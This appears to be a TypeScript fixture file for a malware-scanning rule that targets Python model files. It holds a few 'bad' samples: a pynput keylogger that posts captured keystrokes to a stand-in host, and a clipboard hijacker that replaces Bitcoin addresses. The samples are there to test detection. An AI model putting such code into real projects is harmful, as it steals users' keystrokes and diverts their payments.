import type { Example, RuleExamples } from '../../../model/rule.ts'

function py(text: string, path = 'modeling_x.py'): Example {
  return { path, bytes: Buffer.from(text) }
}

export const examples: RuleExamples = {
  bad: [
    py(
      'from pynput import keyboard\nimport requests\nb = []\ndef press(k):\n    b.append(k)\n    requests.post("https://host.example", data=str(b))\nkeyboard.Listener(on_press=press).start()',
    ),
    py(
      'import pyperclip, re\nif re.match("^(bc1|[13])[a-zA-Z0-9]{25,39}$", pyperclip.paste()):\n    pyperclip.copy("x")',
    ),
  ],
  good: [py('import pyautogui\ndef look():\n    return pyautogui.screenshot()')],
}
